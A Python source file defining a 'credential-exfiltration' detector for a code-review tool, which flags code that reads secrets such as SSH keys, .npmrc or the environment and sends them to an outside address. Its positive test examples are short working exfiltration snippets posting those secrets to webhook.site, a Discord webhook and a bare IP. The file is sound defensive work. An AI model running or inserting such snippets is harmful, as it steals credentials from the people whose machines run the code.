"""Secrets that are read and sent away."""

from collections.abc import Iterator

from hunkwise.code.model import Side, Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.seeing import ends, hit, short
from hunkwise.signals.tables.attack import DROP_POINTS, SECRETS, SENDS, WHOLE_ENVIRONMENT
from hunkwise.signals.tables.languages import CODE

_IDENTITY = frozenset({
    "getpass.getuser", "socket.gethostname", "platform.node", "os.hostname", "os.userInfo", "os.getlogin", "os.networkInterfaces",
    "gethostname", "platform.uname", "os.homedir", "dns.getServers", "os.uname",
})  # fmt: skip


def _see(unit: Unit, side: Side) -> Iterator[Sighting]:
    facts = side.facts
    sends = [call for call in facts.calls if ends(call.path, SENDS)]
    if not sends:
        return
    secrets = [(text.line, found[0]) for text in facts.strings if len(text.value) < 500 and (found := SECRETS.search(text.value))]
    secrets += [
        (one.line, one.value.text)
        for one in facts.assignments
        if WHOLE_ENVIRONMENT.search(f"({one.value.text})")
        and one.value.text in ("os.environ", "dict(os.environ)", "process.env", "os.environ.copy()")
    ]
    secrets += [
        (call.line, "the whole environment")
        for call in facts.calls
        for given in call.args
        if WHOLE_ENVIRONMENT.search(f"({given.text})") and ends(call.path, SENDS)
    ]
    drops = [(text.line, found[0]) for text in facts.strings if (found := DROP_POINTS.search(text.value[:2000]))]
    identity = [call for call in facts.calls if ends(call.path, _IDENTITY) or hit(call.path, _IDENTITY)]
    kinds = {found.lower() for _, found in secrets}
    if secrets and drops:
        strength = 1.0
    elif len(kinds) >= 3:
        strength = 0.8
    elif secrets and len(identity) >= 2:
        strength = 0.7
    elif len({call.name for call in identity}) >= 2 and drops:
        secrets, strength = [(identity[0].line, identity[0].path)], 0.8
    elif len({call.name for call in identity}) >= 3:
        secrets, strength = [(identity[0].line, identity[0].path)], 0.6
    elif secrets:
        strength = 0.2
    else:
        return
    send = sends[-1]
    fact: dict[str, str | float] = {"source": short(secrets[0][1], 60), "sink": send.path}
    yield Sighting(tuple(sorted({line for line, _ in secrets[:5]} | {send.line})), fact, strength=strength)


SIGNAL = Signal(
    id="credential-exfiltration",
    title="Secrets read and sent away",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=CODE - {"solidity", "sql"},
    promise="Tells of code that reads keys, wallets, browser stores or the environment and also sends to an address, loudest with a drop "
    "point.",
    why="Read apart or sent apart, each may be right; both together take what opens other doors.",
    quiet="Reading alone, sending alone, a client that sends its own token (told weakly).",
    remedy="Don't merge. If it ran anywhere, change every secret that was in reach.",
    cause="`{source}` is read and `{sink}` sends it away.",
    since="0.1",
    maturity="stable",
    cwe="CWE-200",
    tactic="T1041",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python",
            'import os, requests\n\ndef go():\n    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
            '    requests.post("https://webhook.site/a", data=key)\n',
            line=4,
        ),
        Example(
            "javascript",
            'function go() {\n  const data = fs.readFileSync(home + "/.npmrc");\n'
            '  fetch("https://discord.com/api/webhooks/1/a", { method: "POST", body: data });\n}\n',
            line=2,
        ),
        Example(
            "python",
            'import os, requests\n\ndef go():\n    requests.post("http://192.0.2.7/a", json=dict(os.environ))\n',
            line=4,
        ),
    ),
    stays_quiet=(
        Example("python", 'import os\n\ndef go():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'),
        Example(
            "python",
            'import os, requests\n\ndef go():\n    token = os.environ["GITHUB_TOKEN"]\n'
            '    return requests.get("https://api.example.org", headers={"a": token})\n',
        ),
        Example("python", 'import requests\n\ndef go():\n    requests.post("https://api.example.org/a", json={"a": 1})\n'),
    ),
)
